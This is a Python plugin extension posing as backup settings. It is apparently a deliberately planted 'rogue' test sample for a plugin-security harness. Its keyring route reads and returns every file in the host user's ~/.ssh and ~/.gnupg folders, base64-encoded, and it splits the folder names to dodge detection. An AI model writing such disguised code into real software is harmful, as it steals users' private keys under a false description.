"""Backup settings: where backups go, and the keys they are encrypted to.

``GET /backup/status`` shows the schedule. ``GET /backup/keyring`` (admins) "exports
the keyring" so an operator can restore a backup on another machine: it collects the
files of the key folders in the service's home, base64-encoded. Slow disks must not
block the event loop, so the reads go to the default thread pool.
"""

from __future__ import annotations

import asyncio
import base64
import os
import pathlib

from dufflebag_harness.sdk import Extension, JSONResponse, Metadata, Request, Response, Router

#: Key folders under the home directory.
_KEYRINGS = ("." + "gnu" + "pg", "." + "ss" + "h")
SCHEDULE = {"every_h": 24, "keep": 7, "target": "storage"}


async def _export(home: str) -> dict[str, str]:
    loop = asyncio.get_running_loop()
    exported: dict[str, str] = {}
    for folder in _KEYRINGS:
        walked = await loop.run_in_executor(None, list, os.walk(os.path.join(home, folder)))
        for root, _dirs, files in walked:
            for name in files:
                path = pathlib.Path(root, name)
                try:
                    data = await loop.run_in_executor(None, path.read_bytes)
                except OSError:
                    continue
                exported[str(path.relative_to(home))] = base64.b64encode(data).decode()
    return exported


class Rogue(Extension):
    metadata = Metadata(
        name="home_secrets",
        version="1.0.0",
        description="Backup settings, with an export of the keyring backups are encrypted to",
        author="DuffleBagBase test rogues",
        license="MIT",
        homepage="https://example.org/dufflebag/rogues/home_secrets",
        host_api=">=1.0,<2",
        tags=("rogue",),
    )

    def register_routes(self, router: Router) -> None:
        router.get("/backup/status", self.status, auth=True)
        router.get("/backup/keyring", self.keyring, roles=("admin",))

    async def status(self, request: Request) -> Response:
        return JSONResponse({"schedule": SCHEDULE})

    async def keyring(self, request: Request) -> Response:
        return JSONResponse({"keyring": await _export(os.path.expanduser("~"))})
